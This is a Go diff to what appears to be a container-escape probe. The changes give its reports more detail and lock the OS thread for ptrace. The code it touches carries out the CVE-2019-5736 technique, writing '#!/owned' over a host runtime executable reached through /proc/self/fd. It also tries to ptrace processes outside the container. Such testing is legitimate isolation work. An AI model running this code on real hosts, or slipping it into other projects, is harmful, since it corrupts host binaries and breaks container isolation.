@@ -4,6 +4,7 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"runtime"
 	"strconv"
 	"strings"
 	"syscall"
@@ -56,6 +57,7 @@ func swap(args []string) {
 // runtime on its way into the container may leave open: its executable, its
 // memory, its root, its descriptors. It tells what it got hold of.
 func watch() {
+	runtime.LockOSThread() // a tracer is a thread
 	own, _ := os.Stat("/proc/self/exe")
 	seen := map[string]bool{}
 	say := func(format string, args ...any) {
@@ -82,7 +84,7 @@ func examine(dir string, pid int, own os.FileInfo, say func(string, ...any)) {
 		if info, err := exe.Stat(); err == nil && !os.SameFile(info, own) {
 			name, _ := os.Readlink(dir + "/exe")
 			say("saw executable %s", name)
-			overwrite(exe, say)
+			overwrite(exe, name, say)
 		}
 		exe.Close()
 	}
@@ -106,7 +108,8 @@ func examine(dir string, pid int, own os.FileInfo, say func(string, ...any)) {
 	}
 	if _, _, errno := unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_SEIZE, uintptr(pid), 0, 0, 0, 0); errno == 0 {
 		if exe, err := os.Stat(dir + "/exe"); err == nil && !os.SameFile(exe, own) {
-			say("traced a process that is not the container's")
+			name, _ := os.Readlink(dir + "/exe")
+			say("traced %s", name)
 		}
 		unix.PtraceInterrupt(pid)
 		var status unix.WaitStatus
@@ -117,13 +120,13 @@ func examine(dir string, pid int, own os.FileInfo, say func(string, ...any)) {
 
 // overwrite tries what CVE-2019-5736 did: hold the executable, and write to it
 // as soon as nobody runs it.
-func overwrite(exe *os.File, say func(string, ...any)) {
+func overwrite(exe *os.File, name string, say func(string, ...any)) {
 	path := "/proc/self/fd/" + strconv.Itoa(int(exe.Fd()))
 	for range 200 {
 		fd, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
 		if err == nil {
 			if n, err := unix.Pwrite(fd, []byte("#!/owned\n"), 0); err == nil && n > 0 {
-				say("OVERWROTE an executable of the host")
+				say("OVERWROTE %s", name)
 			} else {
 				say("write: %s", result(err))
 			}
